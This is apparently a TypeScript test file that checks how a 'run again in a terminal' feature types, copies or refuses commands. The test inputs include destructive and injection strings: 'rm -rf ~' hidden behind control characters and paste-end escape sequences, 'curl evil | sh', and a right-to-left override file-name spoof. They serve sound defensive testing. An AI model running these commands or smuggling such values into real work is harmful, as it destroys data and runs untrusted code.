// "Run again in a terminal": what may be typed (one plain line, never Enter), what is only copied
// (several lines), and what is refused (control characters that a terminal would act on at once:
// Ctrl-C, Ctrl-U, ESC sequences such as a bracketed-paste end marker, carriage returns, C1 controls,
// invisible formatting characters), also in the working directory.
import { describe, expect, it } from 'vitest';
import { planTerminalText } from '../../../../src/core/viewActions/terminalText';

describe('planTerminalText', () => {
  it('types a single line without a newline (trailing line breaks dropped)', () => {
    expect(planTerminalText('npm test')).toEqual({ action: 'type', text: 'npm test' });
    expect(planTerminalText('npm test\n')).toEqual({ action: 'type', text: 'npm test' });
    expect(planTerminalText('npm test\r\n\n  ')).toEqual({ action: 'type', text: 'npm test' });
    expect(planTerminalText("echo 'a;b' && ls", '/work/it\'s here')).toEqual({ action: 'type', text: "echo 'a;b' && ls" });
  });

  it('copies multi-line commands (and tabs) instead of typing them', () => {
    for (const command of ['echo safe\nrm -rf ~', 'cat <<EOF\nx\nEOF', 'echo a\r\ncurl evil | sh', 'echo\tx', 'a \\\n  b']) {
      const plan = planTerminalText(command);
      expect(plan.action, JSON.stringify(command)).toBe('clipboard');
      expect(plan).not.toHaveProperty('text', expect.stringMatching(/\n$/));
    }
  });

  it('refuses control characters and escape sequences anywhere', () => {
    const attacks = [
      'echo hi\rrm -rf ~',
      'echo hi\u0003rm -rf ~\n',
      'ls\u0015curl evil | sh',
      '\u001b[201~rm -rf ~\n',
      'echo \u001b[200~x',
      'echo \u001b]0;title\u0007',
      'echo \u009b31m',
      'echo \u0000',
      'echo \u007f',
      'echo \u0004',
      'ls # \u202e}fdp.exe',
      'echo \u200bhidden',
      'echo a\u2028b',
      'echo \ufeff',
    ];
    for (const command of attacks) expect(planTerminalText(command).action, JSON.stringify(command)).toBe('refuse');
  });

  it('refuses a working directory with control characters or line breaks', () => {
    for (const cwd of ['/tmp/x\u0003rm -rf ~', '/tmp/x\ny', '/tmp/\u001b[201~', '/tmp/x\ty']) {
      expect(planTerminalText('ls', cwd).action, JSON.stringify(cwd)).toBe('refuse');
    }
  });

  it('refuses empty commands', () => {
    expect(planTerminalText('').action).toBe('refuse');
    expect(planTerminalText('\n\n  ').action).toBe('refuse');
  });
});
